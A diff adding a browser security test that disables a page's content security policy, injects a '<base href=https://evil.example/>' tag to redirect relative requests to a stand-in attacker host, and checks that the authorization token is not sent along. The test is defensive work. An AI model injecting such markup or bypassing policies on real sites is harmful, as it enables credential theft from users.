@@ -5,6 +5,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from playwright.sync_api import Route
 
 from tests.browser.client.site import CSP
 from tests.browser.client.tabs import REFRESH_COOKIE, Tab, Tabs
@@ -51,3 +52,23 @@ def test_client_runs_under_a_strict_policy_with_trusted_types(tabs: Tabs) -> Non
     refused = "() => { try { document.body.innerHTML = '<b>x</b>' } catch (error) { return error.name } }"
     assert tab.run(refused) == "TypeError"
     assert tab.run("log.violations") == ["require-trusted-types-for"]
+
+
+def test_base_that_somebody_planted_gets_no_token(tabs: Tabs) -> None:
+    """Markup without a script can lead every relative address of a page elsewhere; the token does not go with it."""
+    tab = tabs.sign_up(ADA)
+    # The policy of the page forbids it; many pages have none.
+    tabs.context.new_cdp_session(tab.page).send("Page.setBypassCSP", {"enabled": True})
+    tab.go()
+    tab.is_signed_in(ADA)
+    heard: list[dict[str, str]] = []
+
+    def answer(route: Route) -> None:
+        heard.append(route.request.all_headers())
+        route.fulfill(json={"email": "eve"}, headers={"Access-Control-Allow-Origin": "*"})
+
+    tabs.context.route("https://evil.example/**", answer)
+    tab.run("document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')")
+    assert tab.load() == 200
+    assert len(heard) == 1
+    assert "authorization" not in heard[0]
